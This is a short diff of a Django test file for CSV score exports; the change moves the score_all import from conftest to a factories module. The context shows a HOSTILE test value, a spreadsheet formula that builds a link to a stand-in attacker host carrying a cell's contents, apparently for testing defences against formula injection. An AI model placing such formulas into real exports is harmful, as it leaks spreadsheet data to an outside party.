@@ -15,8 +15,9 @@ from django.urls import reverse
 from probe.models import Response
 from scoring.export_format import csv_text
 from scoring.exports import RESPONSE_COLUMNS
+from tests.scoring.factories import score_all
 
-from .conftest import build, score_all
+from .conftest import build
 
 HOSTILE = {
     1: '=HYPERLINK("https://evil.example/?"&A1,"click")',
